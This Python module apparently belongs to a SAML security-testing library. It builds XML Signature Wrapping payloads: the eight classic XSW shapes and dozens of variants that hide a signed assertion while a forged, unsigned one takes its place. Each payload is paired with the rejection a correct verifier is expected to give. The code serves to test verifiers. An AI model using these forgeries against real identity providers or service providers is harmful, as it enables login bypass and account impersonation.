"""Signature wrapping: a signed element is moved aside, and a forged one stands where it stood (SAML-11).

The eight shapes are those of "On Breaking SAML" (USENIX Security 2012) in the numbering of SAML Raider. Behind them
come all the places in which the signed assertion could be hidden, with its signature or parted from it.
"""

from __future__ import annotations

from collections.abc import Callable

from latchstring.attacks.outcome import Attack
from latchstring.attacks.saml.forge import Build, Forge, attack, behind_issuer, evil, inside, signature_in, unsigned
from latchstring.attacks.saml.scene import Scene, random_id
from latchstring.protocols.saml import names

_SPACES = f'xmlns:samlp="{names.SAMLP}" xmlns:saml="{names.SAML}" xmlns:ds="{names.DS}"'
_SUCCESS = f'<samlp:StatusCode Value="{names.STATUS_SUCCESS}"/>'


def _forged_copy(bare: str, own_id: str, *, new_id: bool) -> str:
    """Somebody else's, unsigned; with an ID of its own or with the one that the signature speaks of."""
    copy = evil(bare)
    return copy.replace(own_id, random_id()) if new_id else copy


def _assertions(forge: Forge, new_id: bool) -> tuple[str, str, str, str, str]:
    """Before the assertion, the signed one, the same bare, the forged one, and what comes behind."""
    text = forge.answer()
    start, end = text.index("<saml:Assertion"), text.index("</saml:Assertion>") + len("</saml:Assertion>")
    signed = text[start:end]
    bare = unsigned(signed)
    return text[:start], signed, bare, _forged_copy(bare, forge.assertion_id, new_id=new_id), text[end:]


def _responses(forge: Forge, new_id: bool, both: bool) -> tuple[str, str, str, str]:
    """The signed Response, the same bare, the forged one, and the signature."""
    signed = forge.answer(sign="both" if both else "response")
    bare = unsigned(signed)
    copy = _forged_copy(bare, forge.response_id, new_id=new_id)
    if new_id:
        copy = copy.replace(forge.assertion_id, random_id())
    if both:
        copy = unsigned(copy)
    return signed, bare, copy, signature_in(signed)


def _xsw1(forge: Forge, new_id: bool, both: bool) -> str:
    _, bare, forged, signature = _responses(forge, new_id, both)
    return behind_issuer(forged, inside(signature, bare))


def _xsw2(forge: Forge, new_id: bool, both: bool) -> str:
    _, bare, forged, signature = _responses(forge, new_id, both)
    return behind_issuer(forged, bare + signature)


def _xsw3(forge: Forge, new_id: bool) -> str:
    before, signed, _, forged, behind = _assertions(forge, new_id)
    return before + forged + signed + behind


def _xsw4(forge: Forge, new_id: bool) -> str:
    before, signed, _, forged, behind = _assertions(forge, new_id)
    return before + inside(forged, signed) + behind


def _xsw5(forge: Forge, new_id: bool) -> str:
    before, signed, bare, forged, behind = _assertions(forge, new_id)
    return before + behind_issuer(forged, signature_in(signed)) + bare + behind


def _xsw6(forge: Forge, new_id: bool) -> str:
    before, signed, bare, forged, behind = _assertions(forge, new_id)
    return before + behind_issuer(forged, inside(signature_in(signed), bare)) + behind


def _xsw7(forge: Forge, new_id: bool) -> str:
    before, signed, _, forged, behind = _assertions(forge, new_id)
    return behind_issuer(before, f"<samlp:Extensions>{forged}</samlp:Extensions>") + signed + behind


def _xsw8(forge: Forge, new_id: bool) -> str:
    before, signed, bare, forged, behind = _assertions(forge, new_id)
    return before + behind_issuer(forged, inside(signature_in(signed), f"<ds:Object>{bare}</ds:Object>")) + behind


_SHAPES: tuple[tuple[str, str, Callable[[Forge, bool], str], str], ...] = (
    ("xsw1", "signed Response inside its own signature", lambda f, n: _xsw1(f, n, both=False), "several_assertions"),
    ("xsw1-both", "the same, the assertion signed too", lambda f, n: _xsw1(f, n, both=True), "several_assertions"),
    ("xsw2", "signed Response before its signature", lambda f, n: _xsw2(f, n, both=False), "response_malformed"),
    ("xsw2-both", "the same, the assertion signed too", lambda f, n: _xsw2(f, n, both=True), "response_malformed"),
    ("xsw3", "forged assertion before the signed one", _xsw3, "several_assertions"),
    ("xsw4", "signed assertion inside the forged one", _xsw4, "several_assertions"),
    ("xsw5", "forged assertion takes the signature over", _xsw5, "several_assertions"),
    ("xsw6", "signed assertion inside the signature", _xsw6, "several_assertions"),
    ("xsw7", "forged assertion in Extensions", _xsw7, "several_assertions"),
    ("xsw8", "signed assertion in a ds:Object", _xsw8, "several_assertions"),
)


# Where the signed assertion may be hidden: (place, how). The functions get what comes before the assertion, the forged
# assertion, what is hidden, and what comes behind.
Hide = Callable[[str, str, str, str], str]
_OF_RESPONSE: dict[str, str] = {
    "encrypted-assertion": "<saml:EncryptedAssertion>{}</saml:EncryptedAssertion>",
    "second-status": f"<samlp:Status>{_SUCCESS}<samlp:StatusDetail>{{}}</samlp:StatusDetail></samlp:Status>",
    "foreign-element": '<x:x xmlns:x="urn:x">{}</x:x>',
}
_OF_ASSERTION: dict[str, str] = {
    "advice": "<saml:Advice>{}</saml:Advice>",
    "attribute-value": '<saml:AttributeStatement><saml:Attribute Name="x"><saml:AttributeValue>{}'
    "</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>",
    "confirmation-data": '<saml:Subject><saml:SubjectConfirmation Method="urn:x"><saml:SubjectConfirmationData>{}'
    "</saml:SubjectConfirmationData></saml:SubjectConfirmation></saml:Subject>",
    "key-info": f"<ds:Signature {_SPACES}><ds:KeyInfo>{{}}</ds:KeyInfo></ds:Signature>",
    "object": f"<ds:Signature {_SPACES}><ds:Object>{{}}</ds:Object></ds:Signature>",
    "statement": '<saml:Statement xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">{}</saml:Statement>',
}
_ROOTS: dict[str, str] = {
    "soap-header": '<S:Envelope xmlns:S="http://schemas.xmlsoap.org/soap/envelope/"><S:Header>{hidden}</S:Header>'
    "<S:Body>{forged}</S:Body></S:Envelope>",
    "foreign-root": "<x>{forged}{hidden}</x>",
    "foreign-root-first": "<x>{hidden}{forged}</x>",
}


def _hidings() -> dict[str, Hide]:
    def extensions(before: str, forged: str, hidden: str, behind: str) -> str:
        return behind_issuer(before, f"<samlp:Extensions>{hidden}</samlp:Extensions>") + forged + behind

    def status_detail(before: str, forged: str, hidden: str, behind: str) -> str:
        detail = f"<samlp:StatusDetail>{hidden}</samlp:StatusDetail></samlp:Status>"
        return before.replace("</samlp:Status>", detail) + forged + behind

    def of_response(template: str) -> Hide:
        return lambda before, forged, hidden, behind: before + forged + template.format(hidden) + behind

    def of_assertion(template: str) -> Hide:
        return lambda before, forged, hidden, behind: before + inside(forged, template.format(hidden)) + behind

    def root(template: str) -> Hide:
        return lambda before, forged, hidden, behind: template.format(forged=before + forged + behind, hidden=hidden)

    return {
        "extensions": extensions,
        "status-detail": status_detail,
        **{name: of_response(template) for name, template in _OF_RESPONSE.items()},
        **{name: of_assertion(template) for name, template in _OF_ASSERTION.items()},
        **{name: root(template) for name, template in _ROOTS.items()},
    }


_HIDINGS = _hidings()
# The same ID twice is seen first, while the document is read; with a new one it is up to the envelope's checks.
_BY_PLACE = {"foreign-element": "response_malformed", "second-status": "response_malformed"} | dict.fromkeys(
    _ROOTS, "not_a_response"
)


def _hidden(place: str, *, new_id: bool, moved: bool) -> Build:
    def build(forge: Forge) -> str:
        before, signed, bare, forged, behind = _assertions(forge, new_id)
        if moved:
            return _HIDINGS[place](before, behind_issuer(forged, signature_in(signed)), bare, behind)
        return _HIDINGS[place](before, forged, signed, behind)

    return build


def _in_response(place: str, template: str) -> Attack[Scene]:
    def build(forge: Forge) -> str:
        signed, _, forged, _ = _responses(forge, True, both=False)
        if place == "status-detail":
            return forged.replace("</samlp:Status>", template.format(signed) + "</samlp:Status>")
        if place == "extensions":
            return behind_issuer(forged, template.format(signed))
        return forged.replace("</saml:Assertion>", template.format(signed) + "</saml:Assertion>")

    return attack(f"response-in-{place}", "SAML-11", f"signed Response hidden in {place}", "several_assertions", build)


ATTACKS: tuple[Attack[Scene], ...] = (
    *(
        attack(
            f"{name}-{'new' if new_id else 'same'}-id",
            "SAML-11",
            f"{tries}, {'an ID of its own' if new_id else 'the same ID'}",
            code if new_id else "duplicate_ids",
            lambda forge, shape=shape, new_id=new_id: shape(forge, new_id),  # type: ignore[misc]
        )
        for name, tries, shape, code in _SHAPES
        for new_id in (True, False)
    ),
    *(
        attack(
            f"{'part' if moved else 'hide'}-{place}-{'new' if new_id else 'same'}-id",
            "SAML-11",
            f"signed assertion in {place}{', its signature in the forged one' if moved else ''}",
            _BY_PLACE.get(place, "several_assertions") if new_id else "duplicate_ids",
            _hidden(place, new_id=new_id, moved=moved),
        )
        for place in _HIDINGS
        for moved in (False, True)
        for new_id in (True, False)
    ),
    *(
        _in_response(place, template)
        for place, template in {
            "extensions": "<samlp:Extensions>{}</samlp:Extensions>",
            "status-detail": "<samlp:StatusDetail>{}</samlp:StatusDetail>",
            "advice": "<saml:Advice>{}</saml:Advice>",
        }.items()
    ),
)
